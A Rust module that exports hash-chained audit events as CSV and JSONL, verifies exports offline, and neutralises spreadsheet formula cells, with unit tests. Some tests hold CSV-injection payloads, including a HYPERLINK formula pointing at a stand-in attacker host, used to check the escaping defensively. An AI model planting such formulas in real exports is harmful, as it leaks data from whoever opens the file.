//! Audit exports, line by line (so they stream in constant memory), and the
//! offline check of a JSONL export.
//!
//! A JSONL export is a header line, one line per event in id order with the
//! fields the hash covers and the event's hash, and a trailer line:
//!
//! ```text
//! {"type":"header","format":"recovery-portal audit export","version":1,"complete":true,"filters":{}}
//! {"type":"event","id":1,"at":"2026-11-27T10:00:00.000000Z","actor":"system",...,"prev_hash":"00…","hash":"5e…"}
//! {"type":"trailer","events":1,"last_hash":"5e…"}
//! ```
//!
//! Offline, every event's hash is recomputed from its fields (an altered event
//! fails), consecutive ids must link (`prev_hash` = the hash before), and an
//! unfiltered (`complete`) export must be the whole chain from event 1 with no
//! gap; the trailer's count must equal the lines read (a removed line fails).

use super::chain::{event_hash, ChainedEvent, GENESIS_HASH};
use chrono::{DateTime, SecondsFormat, Utc};
use serde_json::{json, Value};
use std::collections::BTreeMap;

/// The CSV columns, in order.
pub const CSV_HEADER: &str = "id,at,actor,action,subject,details,prev_hash,hash\r\n";

fn at_text(at: &DateTime<Utc>) -> String {
    at.to_rfc3339_opts(SecondsFormat::Micros, true)
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP's
/// list): a cell starting with one is opened as text, never evaluated.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A CSV field, quoted when it has to be (RFC 4180). A field that a spreadsheet
/// would evaluate (an actor is whatever someone typed at sign-in) gets a leading
/// `'` and quotes, as OWASP recommends against CSV injection.
fn csv_field(s: &str) -> String {
    if s.starts_with(FORMULA_STARTS) {
        format!("\"'{}\"", s.replace('"', "\"\""))
    } else if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s.to_string()
    }
}

/// One event as a CSV record (CRLF-terminated); details as compact JSON.
pub fn csv_line(e: &ChainedEvent, hash: &str) -> String {
    let fields = [
        e.id.to_string(),
        at_text(&e.at),
        e.actor.clone(),
        e.action.clone(),
        e.subject.clone(),
        e.details.to_string(),
        e.prev_hash.clone(),
        hash.to_string(),
    ];
    let mut line = fields
        .iter()
        .map(|f| csv_field(f))
        .collect::<Vec<_>>()
        .join(",");
    line.push_str("\r\n");
    line
}

/// Lower-case hex SHA-256 of an attempt's output.
pub fn output_sha256(output: &str) -> String {
    use sha2::{Digest, Sha256};
    hex::encode(Sha256::digest(output.as_bytes()))
}

/// An attempt's whole output as a JSONL line of a run report's attachment, with
/// its length and SHA-256 (what the PDF prints beside abbreviated output).
pub fn jsonl_attempt_line(meta: Value, output: &str) -> String {
    let mut doc = match meta {
        Value::Object(map) => map,
        _ => serde_json::Map::new(),
    };
    doc.insert("type".into(), json!("attempt"));
    doc.insert("output_bytes".into(), json!(output.len()));
    doc.insert("output_sha256".into(), json!(output_sha256(output)));
    doc.insert("output".into(), json!(output));
    let mut line = Value::Object(doc).to_string();
    line.push('\n');
    line
}

/// The header line of a JSONL export; `filters` as given (empty: complete).
pub fn jsonl_header(filters: &BTreeMap<String, String>) -> String {
    let mut line = json!({
        "type": "header",
        "format": "recovery-portal audit export",
        "version": 1,
        "complete": filters.is_empty(),
        "filters": filters,
    })
    .to_string();
    line.push('\n');
    line
}

/// One event as a JSONL line.
pub fn jsonl_line(e: &ChainedEvent, hash: &str) -> String {
    let mut line = json!({
        "type": "event",
        "id": e.id,
        "at": at_text(&e.at),
        "actor": e.actor,
        "action": e.action,
        "subject": e.subject,
        "details": e.details,
        "prev_hash": e.prev_hash,
        "hash": hash,
    })
    .to_string();
    line.push('\n');
    line
}

/// The trailer line: how many events, and the last one's hash.
pub fn jsonl_trailer(events: u64, last_hash: Option<&str>) -> String {
    let mut line =
        json!({ "type": "trailer", "events": events, "last_hash": last_hash }).to_string();
    line.push('\n');
    line
}

/// The trailer line with the whole chain's head when the export started
/// (`chain_head`: `{"id": N, "hash": "…"}`): keep it, and
/// `recovery-portal audit verify --expect-head N:HASH` later proves that the
/// chain still holds everything up to it.
pub fn jsonl_trailer_with_head(
    events: u64,
    last_hash: Option<&str>,
    chain_head: Option<(i64, &str)>,
) -> String {
    let mut line = json!({
        "type": "trailer",
        "events": events,
        "last_hash": last_hash,
        "chain_head": chain_head.map(|(id, hash)| json!({ "id": id, "hash": hash })),
    })
    .to_string();
    line.push('\n');
    line
}

/// Why an export does not check out: the line, and what is wrong there.
#[derive(Clone, Debug, PartialEq, Eq, thiserror::Error)]
pub enum ExportBreak {
    #[error("line {line}: {why}")]
    Malformed { line: u64, why: String },
    #[error(
        "line {line}: event {id}: its content does not match its hash (the event was altered)"
    )]
    Altered { line: u64, id: i64 },
    #[error(
        "line {line}: event {id}: its prev_hash is not the hash of event {previous} before it"
    )]
    Unlinked { line: u64, id: i64, previous: i64 },
    #[error("line {line}: event {id} follows event {previous}: a complete export has every event in order, so events are missing or reordered")]
    Gap { line: u64, id: i64, previous: i64 },
    #[error("line {line}: event {id} comes after event {previous}: events must be in increasing id order")]
    Order { line: u64, id: i64, previous: i64 },
    #[error("the export ends without its trailer line: it was cut off")]
    NoTrailer,
    #[error("the trailer counts {declared} events but the export has {found}: lines were removed or added")]
    Count { declared: u64, found: u64 },
    #[error("the trailer's last hash is not the last event's hash")]
    LastHash,
    #[error("line {line}: the output of attempt {attempt} does not match its length and SHA-256 (the output was altered)")]
    OutputAltered { line: u64, attempt: i64 },
}

impl ExportBreak {
    /// The id of the first event that does not fit, when one is to blame.
    pub fn event_id(&self) -> Option<i64> {
        match self {
            ExportBreak::Altered { id, .. }
            | ExportBreak::Unlinked { id, .. }
            | ExportBreak::Gap { id, .. }
            | ExportBreak::Order { id, .. } => Some(*id),
            _ => None,
        }
    }
}

/// What an export that checks out holds.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ExportReport {
    pub events: u64,
    /// Whether it is the whole chain from event 1 (no filters).
    pub complete: bool,
    /// Links checked between events with consecutive ids.
    pub links: u64,
    pub first_id: Option<i64>,
    pub last_id: Option<i64>,
    pub last_hash: Option<String>,
    pub filters: BTreeMap<String, String>,
    /// Attempt lines (a run report's attached outputs) whose output checked out.
    pub attempts: u64,
    /// The whole chain's head when the export was made, as its trailer says.
    pub chain_head: Option<(i64, String)>,
}

/// Checks a JSONL export one line at a time, in constant memory.
#[derive(Debug, Default)]
pub struct ExportVerifier {
    line: u64,
    header: Option<(bool, BTreeMap<String, String>)>,
    previous: Option<(i64, String)>,
    first_id: Option<i64>,
    events: u64,
    links: u64,
    attempts: u64,
    trailer: Option<(u64, Option<String>)>,
    chain_head: Option<(i64, String)>,
}

fn text(v: &Value, key: &str, line: u64) -> Result<String, ExportBreak> {
    v.get(key)
        .and_then(Value::as_str)
        .map(str::to_string)
        .ok_or_else(|| ExportBreak::Malformed {
            line,
            why: format!("`{key}` is missing or not a string"),
        })
}

impl ExportVerifier {
    /// Checks the next line.
    pub fn push(&mut self, raw: &str) -> Result<(), ExportBreak> {
        self.line += 1;
        let line = self.line;
        let bad = |why: String| ExportBreak::Malformed { line, why };
        if raw.trim().is_empty() {
            return Err(bad("an empty line".into()));
        }
        if self.trailer.is_some() {
            return Err(bad("a line after the trailer".into()));
        }
        let v: Value = serde_json::from_str(raw).map_err(|e| bad(format!("not JSON ({e})")))?;
        let kind = text(&v, "type", line)?;
        match (kind.as_str(), &self.header) {
            ("header", None) => {
                let complete = v.get("complete").and_then(Value::as_bool).unwrap_or(false);
                let filters = v
                    .get("filters")
                    .and_then(Value::as_object)
                    .map(|m| {
                        m.iter()
                            .map(|(k, v)| (k.clone(), v.as_str().unwrap_or_default().to_string()))
                            .collect()
                    })
                    .unwrap_or_default();
                self.header = Some((complete, filters));
                Ok(())
            }
            ("header", Some(_)) => Err(bad("a second header".into())),
            (_, None) => Err(bad("the export does not start with its header line".into())),
            ("event", Some((complete, _))) => {
                let complete = *complete;
                let id = v
                    .get("id")
                    .and_then(Value::as_i64)
                    .ok_or_else(|| bad("`id` is missing or not a number".into()))?;
                let at = text(&v, "at", line)?;
                let at = DateTime::parse_from_rfc3339(&at)
                    .map_err(|e| bad(format!("`at` is not an RFC 3339 time ({e})")))?
                    .with_timezone(&Utc);
                let event = ChainedEvent {
                    id,
                    at,
                    actor: text(&v, "actor", line)?,
                    action: text(&v, "action", line)?,
                    subject: text(&v, "subject", line)?,
                    details: v.get("details").cloned().unwrap_or(Value::Null),
                    prev_hash: text(&v, "prev_hash", line)?,
                };
                let hash = text(&v, "hash", line)?;
                if event_hash(&event) != hash {
                    return Err(ExportBreak::Altered { line, id });
                }
                match &self.previous {
                    None => {
                        if complete && (id != 1 || event.prev_hash != GENESIS_HASH) {
                            return Err(ExportBreak::Gap {
                                line,
                                id,
                                previous: 0,
                            });
                        }
                    }
                    Some((previous, previous_hash)) => {
                        let previous = *previous;
                        if id <= previous {
                            return Err(ExportBreak::Order { line, id, previous });
                        }
                        if id == previous + 1 {
                            if &event.prev_hash != previous_hash {
                                return Err(ExportBreak::Unlinked { line, id, previous });
                            }
                            self.links += 1;
                        } else if complete {
                            return Err(ExportBreak::Gap { line, id, previous });
                        }
                    }
                }
                self.first_id.get_or_insert(id);
                self.previous = Some((id, hash));
                self.events += 1;
                Ok(())
            }
            ("trailer", Some(_)) => {
                let declared = v
                    .get("events")
                    .and_then(Value::as_u64)
                    .ok_or_else(|| bad("`events` is missing or not a number".into()))?;
                let last = v
                    .get("last_hash")
                    .and_then(Value::as_str)
                    .map(str::to_string);
                self.trailer = Some((declared, last));
                self.chain_head = v.get("chain_head").and_then(|h| {
                    Some((h.get("id")?.as_i64()?, h.get("hash")?.as_str()?.to_string()))
                });
                Ok(())
            }
            ("attempt", Some(_)) => {
                let attempt = v
                    .get("attempt_id")
                    .and_then(Value::as_i64)
                    .ok_or_else(|| bad("`attempt_id` is missing or not a number".into()))?;
                let output = text(&v, "output", line)?;
                let sha256 = text(&v, "output_sha256", line)?;
                let bytes = v.get("output_bytes").and_then(Value::as_u64);
                if bytes != Some(output.len() as u64) || output_sha256(&output) != sha256 {
                    return Err(ExportBreak::OutputAltered { line, attempt });
                }
                self.attempts += 1;
                Ok(())
            }
            (other, Some(_)) => Err(bad(format!("unknown line type {other:?}"))),
        }
    }

    /// The result once every line is in.
    pub fn finish(self) -> Result<ExportReport, ExportBreak> {
        let Some((declared, last)) = self.trailer else {
            return Err(ExportBreak::NoTrailer);
        };
        if declared != self.events {
            return Err(ExportBreak::Count {
                declared,
                found: self.events,
            });
        }
        let last_hash = self.previous.as_ref().map(|(_, h)| h.clone());
        if last != last_hash {
            return Err(ExportBreak::LastHash);
        }
        let (complete, filters) = self.header.unwrap_or_default();
        Ok(ExportReport {
            events: self.events,
            complete,
            links: self.links,
            first_id: self.first_id,
            last_id: self.previous.as_ref().map(|(id, _)| *id),
            last_hash,
            filters,
            attempts: self.attempts,
            chain_head: self.chain_head,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A chain of `n` events, as (event, hash).
    fn chain(n: i64) -> Vec<(ChainedEvent, String)> {
        let mut out = Vec::new();
        let mut prev = GENESIS_HASH.to_string();
        for id in 1..=n {
            let e = ChainedEvent {
                id,
                at: DateTime::from_timestamp(1_800_000_000 + id, 5_000).unwrap(),
                actor: if id % 2 == 0 {
                    "olga".into()
                } else {
                    "sam".into()
                },
                action: "step.run".into(),
                subject: format!("run:{id}/step:x"),
                details: json!({"host": "pcrfclient01", "command": "a, \"b\"\nc"}),
                prev_hash: prev.clone(),
            };
            let h = event_hash(&e);
            prev = h.clone();
            out.push((e, h));
        }
        out
    }

    fn export(
        events: &[(ChainedEvent, String)],
        filters: &BTreeMap<String, String>,
    ) -> Vec<String> {
        let mut lines = vec![jsonl_header(filters)];
        lines.extend(events.iter().map(|(e, h)| jsonl_line(e, h)));
        lines.push(jsonl_trailer(
            events.len() as u64,
            events.last().map(|(_, h)| h.as_str()),
        ));
        lines
    }

    fn verify(lines: &[String]) -> Result<ExportReport, ExportBreak> {
        let mut v = ExportVerifier::default();
        for l in lines {
            v.push(l.trim_end_matches('\n'))?;
        }
        v.finish()
    }

    #[test]
    fn a_complete_export_round_trips() {
        let r = verify(&export(&chain(5), &BTreeMap::new())).unwrap();
        assert_eq!((r.events, r.links, r.complete), (5, 4, true));
        assert_eq!((r.first_id, r.last_id), (Some(1), Some(5)));
    }

    #[test]
    fn attached_outputs_are_checked_by_length_and_hash() {
        let filters = BTreeMap::from([("run".to_string(), "3".to_string())]);
        let mut lines = export(&chain(2), &filters);
        let attempt = jsonl_attempt_line(json!({"attempt_id": 7, "step": "stop"}), "ok\n✓\n");
        lines.insert(3, attempt.clone());
        assert_eq!(verify(&lines).unwrap().attempts, 1);
        lines[3] = attempt.replace("ok", "KO");
        assert_eq!(
            verify(&lines).unwrap_err(),
            ExportBreak::OutputAltered {
                line: 4,
                attempt: 7
            }
        );
    }

    #[test]
    fn an_altered_event_is_named_with_its_line() {
        let mut lines = export(&chain(5), &BTreeMap::new());
        lines[3] = lines[3].replace("pcrfclient01", "pcrfclient02");
        assert_eq!(
            verify(&lines).unwrap_err(),
            ExportBreak::Altered { line: 4, id: 3 }
        );
    }

    #[test]
    fn a_removed_line_is_found_in_complete_and_filtered_exports() {
        let mut lines = export(&chain(5), &BTreeMap::new());
        lines.remove(3);
        assert_eq!(
            verify(&lines).unwrap_err(),
            ExportBreak::Gap {
                line: 4,
                id: 4,
                previous: 2
            }
        );
        let filters = BTreeMap::from([("actor".to_string(), "olga".to_string())]);
        let olga: Vec<_> = chain(6)
            .into_iter()
            .filter(|(e, _)| e.actor == "olga")
            .collect();
        let mut lines = export(&olga, &filters);
        let r = verify(&lines).unwrap();
        assert_eq!((r.events, r.links, r.complete), (3, 0, false));
        lines.remove(2);
        assert_eq!(
            verify(&lines).unwrap_err(),
            ExportBreak::Count {
                declared: 3,
                found: 2
            }
        );
    }

    #[test]
    fn a_replaced_event_with_a_fresh_hash_breaks_the_link() {
        let mut events = chain(4);
        events[2].0.details = json!({"host": "elsewhere"});
        events[2].1 = event_hash(&events[2].0);
        let lines = export(&events, &BTreeMap::new());
        assert_eq!(
            verify(&lines).unwrap_err(),
            ExportBreak::Unlinked {
                line: 5,
                id: 4,
                previous: 3
            }
        );
    }

    #[test]
    fn a_cut_off_export_and_bad_lines_say_so() {
        let mut lines = export(&chain(3), &BTreeMap::new());
        lines.pop();
        assert_eq!(verify(&lines).unwrap_err(), ExportBreak::NoTrailer);
        let err = verify(&["{\"type\":\"event\"}".to_string()]).unwrap_err();
        assert!(
            err.to_string().contains("does not start with its header"),
            "{err}"
        );
        let mut lines = export(&chain(2), &BTreeMap::new());
        lines[1] = "not json".into();
        assert!(verify(&lines)
            .unwrap_err()
            .to_string()
            .starts_with("line 2: not JSON"));
    }

    #[test]
    fn csv_quotes_what_needs_quoting() {
        let (e, h) = &chain(1)[0];
        let line = csv_line(e, h);
        assert!(
            line.starts_with("1,2027-01-15T08:00:01.000005Z,sam,step.run,run:1/step:x,\"{"),
            "{line}"
        );
        assert!(line.contains(r#"""command"":""a, \""b\""\nc"""#), "{line}");
        assert!(line.ends_with(&format!(",{GENESIS_HASH},{h}\r\n")));
    }

    #[test]
    fn cells_a_spreadsheet_would_evaluate_are_neutralised() {
        for start in ['=', '+', '-', '@', '\t', '\r'] {
            let cell = format!("{start}HYPERLINK(\"https://x.example/?\"&F2,\"x\")");
            let out = csv_field(&cell);
            assert!(out.starts_with("\"'"), "{start:?}: {out}");
            assert!(out.ends_with('"'), "{start:?}: {out}");
            assert_eq!(
                out,
                format!("\"'{}\"", cell.replace('"', "\"\"")),
                "{start:?}"
            );
        }
        // Harmless cells stay as they were.
        assert_eq!(csv_field("sam"), "sam");
        assert_eq!(csv_field("12"), "12");
        assert_eq!(csv_field("a=b"), "a=b");
        assert_eq!(csv_field(""), "");
    }

    #[test]
    fn a_formula_actor_reaches_the_csv_as_text() {
        let (mut e, h) = chain(1).remove(0);
        e.actor = "=hyperlink(\"https://attacker.example/?\"&f2,\"x\")".into();
        let line = csv_line(&e, &h);
        let actor_cell = line
            .split(",2027-01-15T08:00:01.000005Z,")
            .nth(1)
            .expect("the actor follows the time");
        assert!(actor_cell.starts_with("\"'=hyperlink("), "{line}");
    }
}
